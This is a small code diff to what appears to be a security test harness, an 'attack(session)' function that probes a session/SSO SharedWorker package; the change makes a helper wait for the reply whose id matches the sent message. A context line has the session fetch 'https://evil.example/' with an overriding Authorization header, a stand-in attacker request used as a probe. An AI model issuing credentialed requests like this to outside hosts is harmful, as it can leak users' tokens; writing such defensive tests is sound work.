@@ -22,7 +22,8 @@ export async function attack(session) {
   await run('session.fetch with its own Authorization', () => session.fetch('https://evil.example/', { headers: { authorization: 'x' } }));
   const worker = new SharedWorker('/pkg/session/worker.js', { type: 'module', name: 'edge-sso' });
   const ask = (msg) => new Promise((resolve) => {
-    worker.port.onmessage = (e) => resolve(e.data);
+    // The answer to this message (the worker also posts events, first of them `started`).
+    worker.port.onmessage = (e) => { if (e.data?.id === msg.id) resolve(e.data); };
     worker.port.postMessage(msg);
     setTimeout(() => resolve({ ok: false, error: { code: 'no answer' } }), 2000);
   });
